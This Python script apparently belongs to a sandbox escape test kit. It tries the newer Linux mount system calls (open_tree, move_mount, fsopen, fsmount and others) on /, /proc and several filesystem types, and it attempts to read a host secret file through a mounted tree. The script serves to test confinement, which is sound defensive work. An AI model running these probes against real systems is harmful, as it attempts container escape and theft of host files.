"""Mounts by the new calls: open_tree, fsopen, fsmount, move_mount, mount_setattr."""

import ctypes

from attack_kit import HOST, attempt, check_secret, reached, read_path, scratch, syscall

attributes = (ctypes.c_uint64 * 4)()
for flags in (0, 1, 0x8001, 0x9001):  # CLONE, AT_RECURSIVE, AT_EMPTY_PATH
    for path in ("/", "/proc", str(scratch())):
        tree = syscall("open_tree", -100, path, flags)
        if tree >= 0:
            reached(f"open_tree({path}, {flags:#x})")
            inside = f"/proc/self/fd/{tree}{HOST['secret_file']}"
            check_secret("in a mounted tree", attempt(read_path, inside))
            if syscall("move_mount", tree, "", -100, str(scratch()), 4) >= 0:
                reached("move_mount of a tree")
        if syscall("mount_setattr", -100, path, flags & 0x8000, attributes, 32) >= 0:
            reached(f"mount_setattr of {path}")
        if syscall("open_tree_attr", -100, path, flags, attributes, 32) >= 0:
            reached(f"open_tree_attr of {path}")
for kind in ("tmpfs", "proc", "sysfs", "overlay", "ext4", "fuse", "cgroup2", "bpf"):
    context = syscall("fsopen", kind, 0)
    if context >= 0:
        reached(f"fsopen of {kind}")
        syscall("fsconfig", context, 6, 0, 0, 0)
        if syscall("fsmount", context, 0, 0) >= 0:
            reached(f"fsmount of {kind}")
if syscall("fspick", -100, "/", 0) >= 0:
    reached("fspick of /")
request = (ctypes.c_uint64 * 4)(24, 0xFFFFFFFFFFFFFFFF, 0, 0)
for name in ("statmount", "listmount"):
    if syscall(name, request, (ctypes.c_uint64 * 64)(), 64, 0) > 0:
        reached(f"{name} tells of mounts")
